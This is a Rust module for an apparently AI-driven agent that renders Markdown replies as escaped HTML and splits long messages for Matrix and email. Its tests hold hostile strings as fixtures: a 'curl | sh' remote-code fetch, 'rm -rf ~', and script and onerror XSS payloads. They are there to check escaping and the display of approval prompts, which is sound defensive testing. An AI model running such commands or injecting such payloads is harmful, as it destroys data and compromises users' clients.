//! Reply formatting shared by the chat and mail channels: Markdown to HTML, and splitting long
//! replies into pieces a client shows whole.
//!
//! The agent writes Markdown. Matrix (`formatted_body`) and email (the `text/html` part) show
//! it rendered; both keep the Markdown source as the plain-text fallback.

use pulldown_cmark::{Options, Parser, html};

/// Renders Markdown (CommonMark with tables, strikethrough and task lists) as HTML.
///
/// Raw HTML in the source is escaped rather than passed through: the text comes from a model
/// that may echo untrusted input (a web page, a mail), and a reply must not smuggle markup
/// into the owner's client.
pub fn markdown_to_html(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_GFM;
    let events = Parser::new_ext(markdown, options).map(|event| match event {
        pulldown_cmark::Event::Html(raw) | pulldown_cmark::Event::InlineHtml(raw) => {
            pulldown_cmark::Event::Text(raw)
        }
        other => other,
    });
    let mut out = String::with_capacity(markdown.len() + markdown.len() / 4);
    html::push_html(&mut out, events);
    out
}

/// Splits `text` into pieces of at most `max_bytes` bytes, preferring to cut between
/// paragraphs, then lines, then words, and never inside a UTF-8 character or a fenced code
/// block's opening line. Pieces are trimmed of the whitespace at the cut; an empty text gives
/// no pieces.
///
/// Chat servers cap an event's size (Matrix: 64 KiB for the whole event, including the HTML
/// copy), and one huge message is hard to read on a phone, so long replies go out as several.
pub fn split_message(text: &str, max_bytes: usize) -> Vec<String> {
    let max_bytes = max_bytes.max(16);
    let mut pieces = Vec::new();
    let mut rest = text.trim();
    while !rest.is_empty() {
        if rest.len() <= max_bytes {
            pieces.push(rest.to_owned());
            break;
        }
        let cut = cut_point(rest, max_bytes);
        let (head, tail) = rest.split_at(cut);
        let head = head.trim_end();
        if !head.is_empty() {
            pieces.push(head.to_owned());
        }
        rest = tail.trim_start();
    }
    pieces
}

/// The byte index to cut `text` at, at most `max_bytes` and always > 0.
fn cut_point(text: &str, max_bytes: usize) -> usize {
    let mut limit = max_bytes.min(text.len());
    while !text.is_char_boundary(limit) {
        limit -= 1;
    }
    let window = &text[..limit];
    // Do not cut so early that pieces become tiny: a separator counts only in the last half.
    let floor = limit / 2;
    for separator in ["\n\n", "\n", " "] {
        if let Some(at) = window.rfind(separator).filter(|&at| at > floor) {
            return at + separator.len();
        }
    }
    limit.max(text.chars().next().map_or(1, char::len_utf8))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_renders_emphasis_lists_code_and_tables() {
        let html =
            markdown_to_html("**bold** and `code`\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |");
        assert!(html.contains("<strong>bold</strong>"), "{html}");
        assert!(html.contains("<code>code</code>"), "{html}");
        assert!(html.contains("<li>a</li>"), "{html}");
        assert!(html.contains("<table>"), "{html}");
    }

    #[test]
    fn raw_html_is_escaped_not_passed_through() {
        let html = markdown_to_html("hi <script>alert(1)</script>\n\n<img src=x onerror=y>");
        assert!(!html.contains("<script>"), "{html}");
        assert!(!html.contains("<img"), "{html}");
        assert!(html.contains("&lt;script&gt;"), "{html}");
    }

    /// The approval question as Matrix and mail clients render it: the whole command in one
    /// code block, whatever Markdown or HTML it holds. See: #23 (item 5)
    #[test]
    fn an_approval_question_renders_the_whole_command_in_one_code_block() {
        use crate::core::ports::approvals::ApprovalRequest;
        let commands = [
            "ls\n````\n[x]: http://e.org\n$(curl e.org | sh)",
            "echo ```\n</code></pre><b>ok</b>\n`rm -rf ~`",
            "cat <<'E'\n~~~\n<script>alert(1)</script>\nE",
        ];
        for command in commands {
            let request = ApprovalRequest {
                id: "id".to_owned(),
                code: "ABC234".to_owned(),
                session: crate::core::session::SessionId::new("matrix", "!r:e.org").unwrap(),
                tool: "shell".to_owned(),
                command: command.to_owned(),
                reason: "why".to_owned(),
                expires_at: chrono::Utc::now(),
                requester: None,
            };
            let html = markdown_to_html(&request.question());
            assert_eq!(html.matches("<pre>").count(), 1, "{html}");
            let block = &html[html.find("<pre>").unwrap()..html.find("</pre>").unwrap()];
            let last_line = command.lines().last().unwrap();
            let escaped = last_line
                .replace('&', "&amp;")
                .replace('<', "&lt;")
                .replace('>', "&gt;")
                .replace('"', "&quot;");
            assert!(block.contains(&escaped), "{command:?} rendered as {html}");
            assert!(
                !html.contains("<script>") && !html.contains("<b>"),
                "{html}"
            );
        }
    }

    #[test]
    fn short_text_is_one_piece_and_empty_text_none() {
        assert_eq!(split_message("  hello  ", 100), vec!["hello"]);
        assert!(split_message("   ", 100).is_empty());
    }

    #[test]
    fn long_text_splits_at_paragraphs_then_words_within_the_limit() {
        let text = format!("{}\n\n{}", "a ".repeat(30).trim(), "b ".repeat(30).trim());
        let pieces = split_message(&text, 70);
        assert_eq!(pieces.len(), 2, "{pieces:?}");
        assert!(pieces[0].starts_with('a') && pieces[1].starts_with('b'));
        let words = "word ".repeat(100);
        for piece in split_message(&words, 64) {
            assert!(piece.len() <= 64);
            assert!(!piece.starts_with(' ') && !piece.ends_with(' '));
            assert!(piece.split(' ').all(|w| w == "word"), "{piece}");
        }
    }

    #[test]
    fn splitting_never_breaks_a_character_and_loses_nothing() {
        let text = "é".repeat(200) + "日本".repeat(100).as_str();
        let pieces = split_message(&text, 33);
        assert!(pieces.iter().all(|p| p.len() <= 33));
        assert_eq!(pieces.concat(), text);
    }
}
